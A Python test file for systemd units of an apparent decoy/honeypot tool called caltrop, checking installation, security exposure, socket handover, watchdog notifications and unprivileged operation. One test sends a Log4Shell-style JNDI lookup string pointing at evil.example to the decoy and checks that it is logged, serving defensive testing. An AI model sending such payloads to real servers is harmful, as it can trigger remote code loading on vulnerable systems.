"""The units of systemd as they are installed, and the decoy without privileges: test_decoy_units.py CALTROP SOURCE BUILD"""
import json
import os
import pathlib
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import unittest

from decoy_case import PATIENCE, until

CALTROP, SOURCE, BUILD = os.path.abspath(sys.argv[1]), pathlib.Path(sys.argv[2]), sys.argv[3]
del sys.argv[1:4]
UNITS = ["caltrop-decoy-listen.service", "caltrop-decoy-listen.socket", "caltrop-decoy.service"]

LAUNCH = "import os, sys\nos.environ.update(LISTEN_FDS='2', LISTEN_PID=str(os.getpid()))\nos.execv(sys.argv[1], sys.argv[1:])"


class Units(unittest.TestCase):
    def setUp(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="caltrop-decoy-"))

    def tearDown(self):
        shutil.rmtree(self.folder)

    def install(self, prefix, **env):
        """Where the units are then."""
        subprocess.run(["cmake", "--install", BUILD, "--component", "systemd", "--prefix", prefix], stdout=subprocess.DEVNULL, check=True, env={**os.environ, **env})
        units = pathlib.Path(env.get("DESTDIR", "") + str(prefix)) / "lib/systemd/system"
        self.assertEqual(sorted(u.name for u in units.iterdir()), UNITS)
        return units

    def installed(self):
        if not shutil.which("systemd-analyze"):
            self.skipTest("no systemd-analyze")
        units = self.install(self.folder / "there")
        (self.folder / "there/bin").mkdir()
        os.symlink(CALTROP, self.folder / "there/bin/caltrop")
        return units

    @staticmethod
    def analyze(*words):
        done = subprocess.run(["systemd-analyze", *map(str, words)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False)
        return done.returncode, done.stdout

    def test_a_package_has_the_paths_of_a_package(self):
        for unit in self.install("/usr", DESTDIR=str(self.folder)).iterdir():
            self.assertEqual(unit.read_text(), (SOURCE / "packaging/systemd" / unit.name).read_text())

    def test_exposure(self):
        units = self.installed()
        for unit, limit in (("caltrop-decoy.service", 2.5), ("caltrop-decoy-listen.service", 1.5)):
            _, said = self.analyze("security", "--offline=true", "--no-pager", units / unit)
            self.assertLessEqual(float(re.search(r"Overall exposure level for \S+: ([\d.]+)", said).group(1)), limit)

    def test_systemd_understands_them(self):
        units = self.installed()
        self.assertEqual(self.analyze("verify", "--man=no", *(units / name for name in UNITS)), (0, ""))
        # And would say so otherwise.
        (units / UNITS[2]).write_text((units / UNITS[2]).read_text().replace("ProtectSystem=strict", "ProtectSystem=perhaps"))
        self.assertIn("perhaps", self.analyze("verify", "--man=no", units / UNITS[2])[1])

    def test_their_commands_are_options_of_ours(self):
        for unit in (SOURCE / "packaging/systemd").glob("caltrop-decoy*.service"):
            command = re.search(r"^ExecStart=/usr/bin/caltrop (.*)$", unit.read_text(), re.M).group(1).split()
            command[command.index("--data-dir") + 1] = str(self.folder)
            done = subprocess.run([CALTROP, *command, "--unprivileged", "--dry-run"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False)
            self.assertEqual(done.returncode, 0, done.stdout)

    def test_ports_handed_over_and_what_systemd_is_told(self):
        """Two listening sockets on 3 and 4, as systemd hands them over; READY and the watchdog's word come after a heartbeat."""
        notify = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        notify.bind(str(self.folder / "notify"))
        notify.settimeout(PATIENCE)
        ports = [socket.create_server(("127.0.0.1", 0)) for _ in range(2)]
        numbers = [s.getsockname()[1] for s in ports]
        # The child has them as 3 and 4.
        low = [os.dup2(s.fileno(), 100 + i) for i, s in enumerate(ports)]
        process = subprocess.Popen([sys.executable, "-c", "import os\nos.dup2(100, 3)\nos.dup2(101, 4)\n" + LAUNCH, CALTROP, "decoy", "--unprivileged", "--json",
                                    "--data-dir", str(self.folder / "data")],
                                   pass_fds=low, env={**os.environ, "NOTIFY_SOCKET": str(self.folder / "notify")}, stdout=open(self.folder / "events", "wb"),
                                   stderr=open(self.folder / "said", "wb"))
        try:
            words = ""
            while "READY=1" not in words or "WATCHDOG=1" not in words:
                words += notify.recv(4096).decode() + "\n"
            self.assertLess(words.index("READY=1"), words.index("WATCHDOG=1"))
            with socket.create_connection(("127.0.0.1", numbers[1])) as s:
                s.sendall(b"x ${jndi:ldap://evil.example/a}\n")
            path = self.folder / "data/decoy/contacts.ndjson"
            until("it is recorded", lambda: "evil.example" in path.read_text())
            contacts = [json.loads(line) for line in path.read_text().split("\n")[:-1]]
            self.assertEqual({c["destination"]["port"] for c in contacts}, {numbers[1]})
            self.assertIn("its 2 ports alone", (self.folder / "said").read_text())
        finally:
            process.send_signal(signal.SIGTERM)
            self.assertEqual(process.wait(PATIENCE), 0)
            for fd in low:
                os.close(fd)
            for s in (*ports, notify):
                s.close()

    def test_beside_up(self):
        env = {**os.environ, "CALTROP_DATA_DIR": str(self.folder), "LC_ALL": "C.UTF-8"}
        done = subprocess.run([CALTROP, "up", "--seconds", "0"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=env, text=True, check=False, stdin=subprocess.DEVNULL)
        self.assertRegex(done.stdout, r"(?m)^WHO KNOCKED MEANWHILE$")
        until("its processes are gone", lambda: not subprocess.run(["pgrep", "-f", str(self.folder)], stdout=subprocess.PIPE, check=False).stdout)

    def test_without_root_and_without_a_place(self):
        """Nobody, in a folder of nobody's, with nothing to write to: it says what it cannot do, and listens."""
        if os.geteuid() != 0:
            self.skipTest("is not root, which it would give up")
        os.chmod(self.folder, 0o755)
        binary = self.folder / "caltrop"
        shutil.copy(CALTROP, binary)
        env = {"PATH": os.environ["PATH"]}
        process = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", binary, "decoy", "--json", "--answer-port", "28080"],
                                   env=env, stdout=open(self.folder / "events", "wb"), stderr=open(self.folder / "said", "wb"))
        try:
            until("it is alive", lambda: '"alive"' in (self.folder / "events").read_text() or process.poll() is not None)
            said = (self.folder / "said").read_text()
            self.assertIn("no half-open scans, no other ports, no UDP, no pings", said)
            self.assertIn("contacts are not kept", said)
        finally:
            process.send_signal(signal.SIGTERM)
            self.assertEqual(process.wait(PATIENCE), 0)


if __name__ == "__main__":
    unittest.main(verbosity=1)
